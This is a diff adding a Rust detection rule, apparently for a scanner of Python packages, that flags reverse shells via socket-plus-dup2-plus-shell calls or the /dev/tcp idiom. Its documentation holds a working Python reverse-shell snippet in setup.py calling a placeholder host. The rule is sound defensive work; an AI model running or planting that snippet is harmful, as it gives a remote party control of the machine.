@@ -1,0 +1,56 @@
+//! ## What it detects
+//!
+//! A socket whose descriptor becomes the input and output of a shell, or the `/dev/tcp` idiom.
+//!
+//! ## Why it is bad
+//!
+//! It hands the machine to whoever listens.
+//!
+//! ## Innocent lookalikes
+//!
+//! Terminal emulators use `pty` without a socket.
+//!
+//! ## Bad
+//!
+//! ```python setup.py
+//! import socket, os, subprocess
+//! s = socket.socket()
+//! s.connect(('x.example.invalid', 4444))
+//! os.dup2(s.fileno(), 0)
+//! subprocess.call(['/bin/sh', '-i'])
+//! ```
+//!
+//! ## Good
+//!
+//! ```python setup.py
+//! import pty
+//! pty.spawn('/bin/sh')
+//! ```
+
+use fondaco_python::{Api, Call};
+use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};
+
+use crate::{Hits, Package, Rule};
+
+pub(crate) const RULE: Rule = Rule {
+    id: RuleId::new("reverse-shell"),
+    title: "opens a reverse shell",
+    severity: Severity::Critical,
+    confidence: Confidence::High,
+    behaviour: Some(Behaviour::CommandAndControl),
+    weight: 2.6,
+    check,
+};
+
+fn check(package: &Package<'_>, hits: &mut Hits) {
+    for unit in package.units() {
+        let has = |api: Api| unit.calls.iter().find(|call| call.api == Some(api));
+        if let (Some(_), Some(call), Some(_)) = (has(Api::Socket), has(Api::Duplicate), has(Api::Shell)) {
+            hits.call(unit, call, "a socket becomes the input and output of a shell");
+        }
+        let piped = |call: &&Call| call.texts().iter().any(|text| text.contains("/dev/tcp/"));
+        if let Some(call) = unit.calls.iter().filter(|call| call.api == Some(Api::Shell)).find(piped) {
+            hits.call(unit, call, "a shell talks to a socket through /dev/tcp");
+        }
+    }
+}
